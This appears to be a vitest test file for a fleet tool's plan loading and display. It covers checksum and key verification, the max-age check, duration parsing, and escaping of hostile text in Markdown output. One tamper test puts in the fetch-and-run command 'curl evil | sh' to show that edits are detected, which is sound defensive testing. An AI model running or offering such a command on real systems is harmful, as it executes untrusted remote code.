import { describe, expect, it } from "vitest";
import { InputFileError } from "../../../src/errors.js";
import { checksumOf } from "../../../src/plan/digest.js";
import { assertFresh, parseDuration, parsePlan, PlanCode } from "../../../src/plan/load.js";
import { renderPlanMarkdown, renderPlanText } from "../../../src/plan/show.js";
import type { PlanDocument } from "../../../src/plan/types.js";
import { caughtFleetError } from "../../support/caught.js";

function document(key?: string): PlanDocument {
  const content = {
    schema: "fleet-plan/v1" as const,
    createdAt: "2026-12-03T00:00:00.000Z",
    playbook: { file: "harden.yml", digest: "sha256:p" },
    extraVarsDigest: "sha256:e",
    tags: [],
    skipTags: [],
    hosts: [
      {
        name: "web`01",
        cluster: null,
        fingerprint: "sha256:f",
        changes: [{ play: 0, task: 1, handler: false, name: "motd | banner", module: "copy", control: "X-01", summary: "replace content", diff: { before: "old\n", after: "new ```\n" }, commands: [{ description: "write /etc/motd", script: "printf 'new ```\\n' > /etc/motd" }], become: true, becomeUser: null, timeoutSeconds: null, continueOnFailure: false, factsDigest: "sha256:x" }],
      },
    ],
  };
  return { ...content, checksum: checksumOf(content, key) };
}

const text = (plan: unknown): string => `${JSON.stringify(plan, null, 2)}\n`;

describe("reading a plan back", () => {
  it("reads a plan as written, with or without a key", () => {
    expect(parsePlan(text(document()), "p.json", undefined)).toEqual(document());
    expect(parsePlan(text(document("k")), "p.json", "k")).toEqual(document("k"));
  });

  it("refuses any edit, located at the checksum", () => {
    const edited = document();
    const [host] = edited.hosts;
    if (host?.changes[0]) host.changes[0].commands = [{ description: "write /etc/motd", script: "curl evil | sh" }];
    const error = caughtFleetError(() => parsePlan(text(edited), "p.json", undefined));
    expect(error).toBeInstanceOf(InputFileError);
    expect(error.message).toContain("p.json does not match its checksum: it was changed after fleet wrote it");
    const checksumLine = text(edited).split("\n").findIndex((line) => line.includes('"checksum"')) + 1;
    expect((error as InputFileError).problems[0]?.location).toMatchObject({ file: "p.json", line: checksumLine });
  });

  it("refuses a keyed plan without the key, or with another", () => {
    expect(caughtFleetError(() => parsePlan(text(document("k")), "p.json", undefined)).message).toContain("FLEET_PLAN_KEY is not set");
    expect(caughtFleetError(() => parsePlan(text(document("k")), "p.json", "other")).message).toContain("or FLEET_PLAN_KEY is not the key it was made with");
  });

  it("refuses what is not a plan, naming the field and its line", () => {
    const { checksum: _, ...noChecksum } = document();
    const error = caughtFleetError(() => parsePlan(text({ ...noChecksum, extra: 1 }), "p.json", undefined)) as InputFileError;
    expect(error.problems.map((problem) => problem.code)).toEqual([PlanCode.file, PlanCode.file]);
    expect(error.problems.map((problem) => problem.message).join("\n")).toMatch(/checksum/);
    expect(caughtFleetError(() => parsePlan("{ not json", "p.json", undefined)).message).toContain("not JSON");
  });

  it("refuses a plan older than --max-age", () => {
    const plan = document();
    expect(() => assertFresh(plan, 24 * 3600_000, new Date("2026-12-03T23:59:00Z"))).not.toThrow();
    const error = caughtFleetError(() => assertFresh(plan, 24 * 3600_000, new Date("2026-12-04T06:00:00Z")));
    expect(error.code).toBe(PlanCode.tooOld);
    expect(error.message).toBe("the plan was made 1.3 d ago (2026-12-03T00:00:00.000Z), more than --max-age 1.0 d");
  });

  it("reads durations", () => {
    expect([parseDuration("24h", "--max-age"), parseDuration("90m", "x"), parseDuration("2d", "x"), parseDuration("30", "x"), parseDuration("0.5s", "x")]).toEqual([86_400_000, 5_400_000, 172_800_000, 30_000, 500]);
    for (const bad of ["", "0", "-1h", "1w", "h", "1e9"]) expect(() => parseDuration(bad, "--max-age"), bad).toThrow(/--max-age must be a duration/);
  });
});

describe("fleet plan show", () => {
  it("prints every change with its commands, terminal-safe", () => {
    const shown = renderPlanText(document());
    expect(shown).toContain("1 change on 1 host");
    expect(shown).toContain("  - motd | banner [X-01]: replace content (as root)\n      $ write /etc/motd");
  });

  it("writes Markdown whose fences and table survive hostile text", () => {
    const markdown = renderPlanMarkdown(document());
    expect(markdown).toContain("| web\\`01 | 1 |");
    expect(markdown).toContain("### motd \\| banner [X-01]");
    // a fence longer than any run of backticks in the script
    expect(markdown).toContain("````sh\n  printf 'new ```\\n' > /etc/motd\n  ````");
  });
});
